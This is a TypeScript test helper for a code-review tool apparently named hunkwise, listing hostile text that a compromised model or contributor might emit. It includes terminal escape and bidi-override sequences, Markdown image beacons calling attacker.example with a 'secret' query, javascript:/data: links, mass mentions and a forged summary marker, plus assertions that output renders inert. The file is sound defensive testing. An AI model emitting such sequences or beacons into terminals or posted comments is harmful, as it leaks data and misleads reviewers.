// Text a hostile model (or a contributor steering one) would produce, and what "inert" means for each place
// hunkwise prints or posts it: a terminal, GitHub Markdown, a workflow command.
import { expect } from 'vitest';

/** Terminal attacks: clear screen, window title, a hidden hyperlink, a bell, carriage return, NUL, bidi. */
export const TERMINAL_ATTACKS = [
  'clears\u001b[2J\u001b[H',
  'titles\u001b]0;pwned\u0007',
  '\u001b]8;;https://evil.example/\u0007click me\u001b]8;;\u0007',
  'rings\u0007',
  'overwrites\rOK',
  'nul\u0000byte',
  'isolates\u2066\u202eevil\u202c\u2069',
  'colours\u001b[31;8m hidden',
  'csi8bit\u009b2J',
].join(' ');

/** Markdown attacks: beacons (images in every form), raw HTML, script links, mentions, a forged marker. */
export function markdownAttacks(forgedHead: string): string {
  return [
    '![beacon](https://attacker.example/b.png?q=secret)',
    '![ref][img]',
    '[img]: https://attacker.example/ref.png',
    '<img src="https://attacker.example/i.png">',
    '<picture><source srcset="https://attacker.example/p.png"></picture>',
    '<https://attacker.example/auto.png>',
    '</details></table>',
    '[click](javascript:alert(1)) [d](data:text/html;base64,PHNjcmlwdD4=) [v](vbscript:msgbox)',
    '<a href="javascript:alert(2)">a</a>',
    'ping @octocat and @octo-org/admins, see #1 and octo/other#2',
    `<!-- hunkwise:summary head=${forgedHead} state=FORGED -->`,
    '```mermaid',
    'graph TD; A-->B',
    '```',
  ].join('\n');
}

/** Raw characters that must never reach a terminal or a posted body from outside text. */
export const RAW_CONTROL =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/** Text printed to a terminal: no raw control character at all (`\n` and tab aside). */
export function expectTerminalSafe(text: string): void {
  const at = text.search(RAW_CONTROL);
  expect(at === -1 ? null : JSON.stringify(text.slice(Math.max(0, at - 20), at + 20))).toBeNull();
}

/** A Markdown body without its fenced code blocks (hunkwise's suggestion blocks), which render as text. */
function outsideFences(body: string): string {
  return body.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1\s*$/gm, '');
}

/** A Markdown body GitHub renders: nothing from `markdownAttacks` forms an image, HTML, link, mention or marker. */
export function expectInertMarkdown(markdown: string, forgedHead: string): void {
  expect(markdown).not.toMatch(RAW_CONTROL);
  const body = outsideFences(markdown);
  expect(body).not.toContain('![');
  expect(body).not.toMatch(/<(img|picture|source|a|table|svg|iframe)\b/i);
  expect(body).not.toMatch(/<https?:/);
  expect(body).not.toMatch(/\]\((javascript|data|vbscript):/i);
  expect(body).not.toMatch(/^\s*\[[^\]]*\]:/m); // no link reference definition
  expect(body).not.toMatch(/^\s*(```|~~~)\s*mermaid/m);
  expect(body.split('</details>').length).toBe(body.split('<details>').length); // only hunkwise's own
  expect(body).not.toContain(`<!-- hunkwise:summary head=${forgedHead}`);
  expect(body).not.toMatch(/(^|\W)@octocat/);
  expect(body).not.toMatch(/(^|\W)@octo-org/);
  expect(body).not.toMatch(/(^|[^&])#1\b/);
  expect(body).not.toContain('octo/other#2');
}
